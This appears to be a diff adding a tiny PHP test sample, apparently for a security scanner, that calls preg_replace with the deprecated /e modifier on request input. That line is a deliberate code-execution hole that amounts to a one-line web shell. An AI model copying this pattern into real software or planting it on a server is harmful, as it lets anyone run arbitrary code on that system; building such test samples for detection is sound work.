@@ -1,0 +1,3 @@
+<?php
+// test sample: preg_replace /e modifier evaluates the replacement
+preg_replace("/.*/e", $_REQUEST['x'], "");
